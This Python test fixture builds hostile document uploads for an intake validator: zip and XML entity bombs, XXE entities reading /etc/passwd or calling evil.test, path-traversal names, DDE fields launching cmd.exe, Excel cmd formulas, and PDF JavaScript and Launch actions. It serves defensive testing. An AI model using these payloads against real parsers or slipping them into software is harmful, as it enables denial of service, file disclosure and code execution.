"""Returned files that nobody would send by mistake: each must be refused in words, soon, and in little memory."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from itertools import pairwise
from types import MappingProxyType

from generator.render.zipped import zipped

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
MAIN = "word/document.xml"


def package(body: str = "<w:p/>", more: Mapping[str, bytes] = MappingProxyType({})) -> dict[str, bytes]:
    """The smallest Word document with this body and more parts."""
    files = {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="{TYPES}"/>'.encode(),
        "_rels/.rels": relation(f"{OFFICE}/officeDocument", MAIN),
        MAIN: f'{HEAD}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode(),
    }
    return files | dict(more)


def relation(kind: str, target: str, outside: bool = False) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    said = f'<Relationship Id="rId1" Type="{kind}" Target="{target}"{mode}/>'
    return f'{HEAD}<Relationships xmlns="{RELATIONS}">{said}</Relationships>'.encode()


def word(body: str = "<w:p/>", more: Mapping[str, bytes] = MappingProxyType({})) -> bytes:
    return zipped(package(body, more))


def with_main(content: bytes) -> bytes:
    return zipped(package() | {MAIN: content})


def linked(kind: str) -> bytes:
    return word(more={"word/_rels/document.xml.rels": relation(f"{OFFICE}/{kind}", "http://evil.test/x", outside=True)})


def xml(declared: str, said: str = "&a;") -> bytes:
    """A document whose type declares something, which its text then uses."""
    return with_main(
        f"{HEAD}<!DOCTYPE w [{declared}]><w xmlns='{W}'><body><p><r><t>{said}</t></r></p></body></w>".encode()
    )


def _bomb() -> str:
    named = "abcdefgh"
    lines = "".join(f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in pairwise(named))
    return f'<!ENTITY a "{"x" * 100}">{lines}'


def _patched(content: bytes, name: str, offset: int, value: bytes) -> bytes:
    """The zip with other bytes in the entry of its list that has this name."""
    at = content.rindex(b"PK\x01\x02", 0, content.rindex(name.encode()))
    return content[: at + offset] + value + content[at + offset + len(value) :]


def _same_name() -> bytes:
    """Two members that have one name: programs disagree which of them counts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in [*package().items(), ("word/documenu.xml", b"<a/>")]:
            archive.writestr(name, content)
    return out.getvalue().replace(b"word/documenu.xml", b"word/document.xml")


def _stored_many(count: int) -> bytes:
    return zipped(package() | {f"word/x{number}": b"" for number in range(count)})


def _comment() -> bytes:
    """A zip that says it has a list of members of 4 GB."""
    whole = bytearray(word())
    at = whole.rindex(b"PK\x05\x06")
    whole[at + 12 : at + 16] = struct.pack("<I", 0xFFFFFFFF)
    return bytes(whole)


WORDS: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "only-zeros": lambda: bytes(4000),
    "half": lambda: word()[: len(word()) // 2],
    "first-bytes": lambda: b"PK\x03\x04",
    "end-only": lambda: b"PK\x03\x04" + b"PK\x05\x06" + bytes(18),
    "noise": lambda: b"PK\x03\x04" + bytes(range(256)) * 40,
    "damaged-stream": lambda: word("<w:p/>" * 500).replace(b"\x03\x00", b"\xff\xff"),
    "wrong-sum": lambda: _patched(word(), MAIN, 16, b"\0\0\0\0"),
    "locked": lambda: _patched(word(), MAIN, 8, b"\x01\0"),
    "strange-method": lambda: _patched(word(), MAIN, 10, b"\x63\0"),
    "lies-about-size": lambda: _patched(word(), MAIN, 24, b"\xff\xff\xff\x7f"),
    "list-of-4-gb": _comment,
    "same-name": _same_name,
    "many-parts": lambda: _stored_many(3000),
    "bomb-of-zeros": lambda: with_main(bytes(90_000_000)),
    "bomb-of-words": lambda: with_main(f"{HEAD}<w>{'a ' * 30_000_000}</w>".encode()),
    "bomb-beside": lambda: word(more={"word/media/a": bytes(80_000_000)}),
    "bombs-together": lambda: zipped(package() | {f"word/media/{number}": bytes(6_000_000) for number in range(18)}),
    "bomb-of-relations": lambda: word(
        more={f"word/_rels/{n}.rels": b"<a>" + b"<b/>" * 900_000 + b"</a>" for n in range(9)}
    ),
    "many-large-parts": lambda: word(
        more={f"word/x{number}.xml": b"<a>" + b"<b/>" * 240_000 + b"</a>" for number in range(24)}
    ),
    "zip-in-it": lambda: word(more={"word/inner.zip": word()}),
    "workbook-in-it": lambda: word(more={"word/embeddings/a.xlsx": word()}),
    "document-in-it": lambda: word(more={"word/a.docx": word()}),
    "leads-up": lambda: word(more={"../../etc/passwd": b"x"}),
    "leads-to-root": lambda: word(more={"/etc/passwd": b"x"}),
    "leads-to-drive": lambda: word(more={"C:\\evil.xml": b"x"}),
    "entities": lambda: xml(_bomb(), "&h;"),
    "one-entity": lambda: xml("<!ENTITY a 'x'>"),
    "outside-entity": lambda: xml('<!ENTITY a SYSTEM "file:///etc/passwd">'),
    "outside-entity-web": lambda: xml('<!ENTITY a SYSTEM "http://evil.test/x">'),
    "parameter-entity": lambda: xml('<!ENTITY % a SYSTEM "http://evil.test/x"> %a;', "x"),
    "doctype-alone": lambda: with_main(f'{HEAD}<!DOCTYPE w SYSTEM "http://evil.test/x"><w/>'.encode()),
    "entities-in-rels": lambda: zipped(
        package() | {"_rels/.rels": f"{HEAD}<!DOCTYPE a [{_bomb()}]><a>&h;</a>".encode()}
    ),
    "deep": lambda: word("<w:p>" * 5_000 + "</w:p>" * 5_000),
    "wide": lambda: word("<w:p/>" * 900_000),
    "cells-without-words": lambda: word(f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 60_000}</w:tr></w:tbl>"),
    "long": lambda: word("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 5_000),
    "not-closed": lambda: with_main(f'{HEAD}<w:document xmlns:w="{W}"><w:body>'.encode()),
    "no-xml": lambda: with_main(b"\x00\x01\x02"),
    "utf-7": lambda: with_main(b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
    "other-root": lambda: with_main(f"{HEAD}<html><body2/></html>".encode()),
    "no-main": lambda: zipped({"a.txt": b"x"}),
    "main-elsewhere": lambda: zipped(
        package() | {"_rels/.rels": relation(f"{OFFICE}/officeDocument", "../../etc/passwd")}
    ),
    "macros": lambda: word(more={"word/vbaProject.bin": b"x"}),
    "macro-type": lambda: zipped(
        package()
        | {"[Content_Types].xml": f"{HEAD}<a b='application/vnd.ms-word.document.macroEnabled.main+xml'/>".encode()}
    ),
    "control": lambda: word(more={"word/activeX/activeX1.xml": b"<a/>"}),
    "object": lambda: word(more={"word/embeddings/oleObject1.bin": b"x"}),
    "template-elsewhere": lambda: linked("attachedTemplate"),
    "picture-elsewhere": lambda: linked("image"),
    "frame-elsewhere": lambda: linked("frame"),
    "object-elsewhere": lambda: linked("oleObject"),
    "part-elsewhere": lambda: linked("subDocument"),
    "settings-elsewhere": lambda: word(
        more={
            "word/_rels/settings.xml.rels": relation(f"{OFFICE}/attachedTemplate", "file://evil/x.dotm", outside=True)
        }
    ),
    "page-in-it": lambda: word(more={"word/_rels/document.xml.rels": relation(f"{OFFICE}/aFChunk", "a.html")}),
    "runs-a-program": lambda: word('<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
    "fetches-a-file": lambda: word('<w:p><w:r><w:instrText>INCLUDETEXT "http://evil.test"</w:instrText></w:r></w:p>'),
    "fetches-in-pieces": lambda: word(
        "<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT a</w:instrText></w:r></w:p>"
    ),
    "fetches-in-short": lambda: word('<w:p><w:fldSimple w:instr="INCLUDEPICTURE a"/></w:p>'),
    "place-that-shows-another-part": lambda: word(
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>'
    ),
    "another-paper": lambda: word("<w:p><w:r><w:t>Minutes of a meeting</w:t></w:r></w:p>"),
    "a-pdf": lambda: pdf("/Lang(en)"),
    "sizes-of-zip64": lambda: _patched(word(), MAIN, 20, b"\xff" * 8),
    "starts-far-off": lambda: _patched(word(), MAIN, 42, b"\xff\xff\xff\x7f"),
    "starts-in-another": lambda: _patched(word(more={"word/a.xml": b"x"}), "word/a.xml", 42, bytes(4)),
    "utf-16-entities": lambda: with_main(
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a "b">]><w>&a;</w>'.encode("utf-16")
    ),
    "link-to-a-file": lambda: _link_to("/etc/passwd"),
    "mail": lambda: (
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n<script>1</script>\r\n"
    ),
    "a-workbook": lambda: book("<row/>"),
}
"""Named `.docx`."""


def _link_to(path: str) -> bytes:
    """A zip whose main part says that it is a link of the file system."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in (package() | {MAIN: path.encode()}).items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = 0o120777 << 16 if name == MAIN else 0
            archive.writestr(entry, content)
    return out.getvalue()


# -- workbooks ---------------------------------------------------------------------------------------------

CELLS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = "xl/worksheets/sheet1.xml"


def book(
    rows: str = "<row/>", more: Mapping[str, bytes] = MappingProxyType({}), sheets: int = 1, beside: str = ""
) -> bytes:
    """A small workbook with these rows; `beside` is one more kind of part that it names."""
    named = "<sheets>" + '<sheet r:id="rId1"/>' * sheets + "</sheets>"
    parts = f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    parts += f'<Relationship Id="rId2" Type="{OFFICE}/{beside}" Target="{beside}.xml"/>' if beside else ""
    files = {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="{TYPES}"/>'.encode(),
        "xl/workbook.xml": f'{HEAD}<workbook xmlns="{CELLS}" xmlns:r="{OFFICE}">{named}</workbook>'.encode(),
        "xl/_rels/workbook.xml.rels": f'{HEAD}<Relationships xmlns="{RELATIONS}">{parts}</Relationships>'.encode(),
        SHEET: f'{HEAD}<worksheet xmlns="{CELLS}"><sheetData>{rows}</sheetData></worksheet>'.encode(),
    }
    return zipped(files | dict(more))


def _numbers(count: int) -> str:
    """Rows that do not pack well: a zip of them looks like an honest one."""
    return "".join(f"<row><c><v>{number * 7919 % 1_000_003}</v></c></row>" for number in range(count))


def _strings(count: int) -> bytes:
    said = "".join(f"<si><t>{number * 7919 % 1_000_003}</t></si>" for number in range(count))
    return f'{HEAD}<sst xmlns="{CELLS}">{said}</sst>'.encode()


def _words(letters: int) -> str:
    return " ".join(str(number * 7919 % 1_000_003) for number in range(letters // 7))


BOOKS: dict[str, Callable[[], bytes]] = {
    "book-locked": lambda: _patched(book(), SHEET, 8, b"\x01\0"),
    "book-of-somebody": lambda: book("<row><c><v>1</v></c></row>"),
    "book-macros": lambda: book(more={"xl/vbaProject.bin": b"x"}),
    "book-old-macros": lambda: book(more={"xl/macrosheets/sheet1.xml": b"<a/>"}),
    "book-connections": lambda: book(beside="connections", more={"xl/connections.xml": b"<connections/>"}),
    "book-query": lambda: book(beside="queryTable", more={"xl/queryTable.xml": b"<a/>"}),
    "book-elsewhere": lambda: book(
        more={
            "xl/externalLinks/_rels/a.xml.rels": relation(f"{OFFICE}/externalLinkPath", "file://evil/a", outside=True)
        }
    ),
    "book-runs-a-program": lambda: book("<row><c><f>cmd|'/c calc'!A0</f><v>1</v></c></row>"),
    "book-entities": lambda: book(
        more={SHEET: f"{HEAD}<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><a>&a;</a>".encode()}
    ),
    "book-utf-16-entities": lambda: book(
        more={SHEET: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY a "b">]><a>&a;</a>'.encode("utf-16")}
    ),
    "book-deep": lambda: book("<row>" + "<c>" * 3_000 + "</c>" * 3_000 + "</row>"),
    "book-rows": lambda: book(_numbers(250_000)),
    "book-of-five-million-rows": lambda: book("<row/>" * 5_000_000),
    "book-cells-in-one-row": lambda: book("<row>" + "<c/>" * 1_400_000 + "</row>"),
    "book-strings": lambda: book(more={"xl/sharedStrings.xml": _strings(250_000)}),
    "book-long-string": lambda: book(
        "<row>" + '<c t="s"><v>0</v></c>' * 150 + "</row>",
        more={"xl/sharedStrings.xml": f"<sst><si><t>{_words(300_000)}</t></si></sst>".encode()},
    ),
    "book-cells-in-no-order": lambda: book('<row><c r="B1"><v>1</v></c><c r="A1"><v>2</v></c></row>'),
    "book-no-such-string": lambda: book('<row r="-1"><c r="A-1" t="s"><v>-1</v></c></row>'),
    "book-one-sheet-many-times": lambda: book(_numbers(1_000), sheets=2_000),
    "book-part-outside": lambda: book(
        more={"xl/_rels/workbook.xml.rels": relation(f"{OFFICE}/worksheet", "../../../etc/passwd")}
    ),
    "book-another-inside": lambda: book(more={"xl/a.xlsx": b"x"}),
    "book-binary": lambda: zipped({"[Content_Types].xml": b"<a/>", "xl/workbook.bin": b"x"}),
    "book-open-document": lambda: zipped(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}
    ),
    "book-page": lambda: b"<html><table><tr><td>1</td></tr></table></html>",
}
"""Named `.xlsx`."""


def sheet(rows: str, *, styles: str = "", before: str = "", behind: str = "", more: Mapping[str, bytes] = {}) -> bytes:
    """A workbook of LibreOffice with one sheet, in the names of OpenDocument without their addresses."""
    kinds = ("office", "table", "text", "style", "fo", "number", "xlink", "draw", "script")
    names = " ".join(f'xmlns:{each}="urn:{each}"' for each in kinds)
    content = (
        f"{HEAD}<office:document-content {names}>"
        f"<office:automatic-styles>{styles}</office:automatic-styles><office:body>"
        f'<office:spreadsheet><table:table table:name="One" table:style-name="ta">{before}{rows}{behind}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": kind, "content.xml": content.encode(), **more})


def _cell(times: int = 1, words: str = "1") -> str:
    return f'<table:table-cell table:number-columns-repeated="{times}"><text:p>{words}</text:p></table:table-cell>'


def _row(times: int, cells: str) -> str:
    return f'<table:table-row table:number-rows-repeated="{times}">{cells}</table:table-row>'


SHEETS: dict[str, Callable[[], bytes]] = {
    "sheet-of-somebody": lambda: sheet(_row(1, _cell())),
    "sheet-cells-without-end": lambda: sheet(_row(1, _cell(10**8))),
    "sheet-rows-without-end": lambda: sheet(_row(10**8, _cell())),
    "sheet-many-repeats": lambda: sheet(_row(1_000, _cell(1_000)) * 100),
    "sheet-spaces-without-end": lambda: sheet(_row(1, _cell(1_000, '<text:s text:c="99999999"/>') * 9)),
    "sheet-deep": lambda: sheet(_row(1, _cell(1, "<text:span>" * 3_000 + "</text:span>" * 3_000))),
    "sheet-rows": lambda: sheet(_row(1, _cell()) * 250_000),
    "sheet-conditions": lambda: sheet(
        _row(5_000, _cell(20)),
        behind='<conditional-format target-range-address="A1:Z9"><condition/></conditional-format>' * 2_000,
    ),
    "sheet-entities": lambda: zipped({
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": b"<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><a>&a;</a>",
    }),
    "sheet-bomb": lambda: zipped({
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b" " * 300_000_000
    }),
    "sheet-locked": lambda: sheet("", more={"META-INF/manifest.xml": b"<a><encryption-data/></a>"}),
    "sheet-macros": lambda: sheet("", more={"Basic/Standard/Module1.xml": b"<a/>"}),
    "sheet-python": lambda: sheet("", more={"Scripts/python/a.py": b"import os"}),
    "sheet-another-inside": lambda: sheet("", before='<draw:object xlink:href="./Object 1"/>'),
    "sheet-runs": lambda: sheet("", before='<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
    "sheet-elsewhere": lambda: sheet("", before='<table:table-source xlink:href="file://evil/a.ods"/>'),
    "sheet-picture-elsewhere": lambda: sheet("", before='<draw:image xlink:href="https://evil/a.png"/>'),
    "sheet-text": lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
    "sheet-of-excel": book,
}  # fmt: skip
"""Named `.ods`."""


def _page(more: bytes) -> bytes:
    """A PDF whose page has more in it."""
    return pdf().replace(b"/MediaBox[0 0 9 9]", more + b"/MediaBox[0 0 9 9]")


def pdf(root: str = "", *objects: str, trailer: str = "") -> bytes:
    """A small PDF: `root` is added to its catalogue, `objects` are numbered from 4 on."""
    bodies = [
        f"<</Type/Catalog/Pages 2 0 R{root}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", *objects,
    ]  # fmt: skip
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    start = len(out)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += f"trailer\n<</Size {len(places) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def _stream(content: bytes, settings: str = "/Filter/FlateDecode") -> str:
    packed = zlib.compress(content, 9).decode("latin-1")
    return f"<<{settings}/Length {len(packed)}>>\nstream\n{packed}\nendstream"


def _many_fields() -> bytes:
    return pdf(f"/AcroForm<</Fields[{'4 0 R ' * 9_000}]>>", "<</T(a)/FT/Tx/V(x)>>")


PDFS: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "head-only": lambda: b"%PDF-1.7\n",
    "half": lambda: pdf()[: len(pdf()) // 2],
    "noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 200,
    "no-trailer": lambda: pdf().replace(b"trailer", b"trailor").replace(b"/Root", b"/Rood"),
    "in-a-circle": lambda: pdf("/AcroForm<</Fields[4 0 R]>>", "<</T(a)/Kids[4 0 R]>>"),
    "pages-in-a-circle": lambda: pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
    "xref-in-a-circle": lambda: pdf(trailer="/Prev 9"),
    "many-fields": _many_fields,
    "deep-brackets": lambda: pdf("/AcroForm<</Fields" + "[" * 50_000 + "]" * 50_000 + ">>"),
    "deep-fields": lambda: pdf("/AcroForm<</Fields[4 0 R]>>",
                               *(f"<</T(a)/Kids[{number} 0 R]>>" for number in range(5, 200))),
    "script": lambda: pdf("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "named-script": lambda: pdf("/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", "<</S/JavaScript/JS(x)>>"),
    "script-on-close": lambda: pdf("/AA<</WC<</S/JavaScript/JS(x)>>>>"),
    "script-in-a-field": lambda: pdf("/AcroForm<</Fields[4 0 R]>>", "<</T(a)/FT/Tx/AA<</K<</S/JavaScript/JS(x)>>>>>>"),
    "button-that-sends": lambda: pdf("/AcroForm<</Fields[4 0 R]>>", "<</T(a)/FT/Btn/A<</S/SubmitForm/F(http://e)>>>>"),
    "starts-a-program": lambda: pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "xfa": lambda: pdf("/AcroForm<</Fields[]/XFA 4 0 R>>", _stream(b"<xdp/>")),
    "file-in-it": lambda: pdf("/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", "<</Type/Filespec>>"),
    "locked": lambda: pdf("", "<</Filter/Standard/V 2/R 3/Length 128/O(" + "a" * 32 + ")/U(" + "b" * 32 + ")/P -4>>",
                          trailer="/Encrypt 4 0 R/ID[<00><00>]"),
    "locked-anew": lambda: pdf(
        "",
        f"<</Filter/Standard/V 5/R 6/Length 256/O({'a' * 48})/U({'b' * 48})/OE({'c' * 32})/UE({'d' * 32})/P -4"
        f"/Perms({'e' * 16})/CF<</StdCF<</CFM/AESV3/Length 32>>>>/StmF/StdCF/StrF/StdCF>>",
        trailer="/Encrypt 4 0 R/ID[<00><00>]",
    ),
    "packed-as-a-picture": lambda: pdf("", _stream(b"", "/Filter/JBIG2Decode")).replace(
        b"/MediaBox[0 0 9 9]", b"/Contents 4 0 R/MediaBox[0 0 9 9]"
    ),
    "bomb": lambda: pdf("/AcroForm<</Fields[4 0 R]>>", "<</T(a)/FT/Tx/V 5 0 R>>", _stream(bytes(60_000_000))),
    "bomb-in-bomb": lambda: pdf(
        "/AcroForm<</Fields[4 0 R]>>", "<</T(a)/FT/Tx/V 5 0 R>>",
        _stream(zlib.compress(bytes(60_000_000), 9), "/Filter[/FlateDecode/FlateDecode]"),
    ),
    "page-that-runs": lambda: _page(b"/AA<</O<</S/JavaScript/JS(x)>>>>"),
    "link-that-starts-a-program": lambda: _page(b"/Annots[<</Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>]"),
    "file-on-a-page": lambda: _page(b"/Annots[<</Subtype/FileAttachment/FS<</F(a.exe)>>>>]"),
    "script-that-follows": lambda: pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>"),
    "actions-in-a-circle": lambda: pdf("/OpenAction 4 0 R", "<</S/GoTo/Next 4 0 R>>"),
    "file-beside": lambda: pdf("/AF[4 0 R]", "<</Type/Filespec/F(a.exe)>>"),
    "less-than-nothing": lambda: pdf(
        "/AcroForm<</Fields[4 0 R]>>", "<</T(a)/V 5 0 R>>", "<</Length -5>>\nstream\na\nendstream"
    ),
    "another": pdf,
    "a-word-document": word,
}  # fmt: skip
"""Named `.pdf`."""

OTHERS: dict[str, Callable[[], bytes]] = {
    "old.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "locked.docx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "rich.rtf": lambda: b"{\\rtf1 hello}",
    "scan.png": lambda: b"\x89PNG\r\n\x1a\n" + bytes(100),
    "photo.jpg": lambda: b"\xff\xd8\xff\xe0" + bytes(100),
    "page.html": lambda: b"<script>alert(1)</script>",
    "program.exe": lambda: b"MZ" + bytes(100),
    "packed.gz": lambda: b"\x1f\x8b" + bytes(30),
    "text.docx": lambda: b"Hello",
    "table.xlsx": word,
    "sheets.ods": lambda: zipped(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}
    ),
    "many-forms.csv": lambda: b"form___paper\n" + b"adult-consent 2.1.0 1.0\n" * 500_000,
    "wide.csv": lambda: b"form___paper," + b"a," * 1_000_000 + b"\nadult-consent 2.1.0 1.0\n",
    "never-closed.csv": lambda: b'form___paper,x\n"' + b"a" * 10_000_000,
    "open.odt": lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
    "no-paper.yaml": lambda: b"schema: citizen-data-answers/1\nanswers: {}\n",
    "no-such-paper.json": lambda: b'{"schema": "citizen-data-answers/1", "document": "nothing", "answers": {}}',
    "bomb.yaml": lambda: b"a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n",
    "deep.json": lambda: b"[" * 100_000,
    "bad-byte.yaml": lambda: b"a: \xff\n",
}


@cache
def hostile() -> Mapping[str, bytes]:
    """Every such file by its name; made once, for the bombs are large before they are packed."""
    return MappingProxyType(dict(_hostile()))


def _hostile() -> Iterator[tuple[str, bytes]]:
    yield from ((f"{name}.docx", make()) for name, make in WORDS.items())
    yield from ((f"{name}.pdf", make()) for name, make in PDFS.items())
    yield from ((f"{name}.xlsx", make()) for name, make in BOOKS.items())
    yield from ((f"{name}.ods", make()) for name, make in SHEETS.items())
    yield from ((name, make()) for name, make in OTHERS.items())
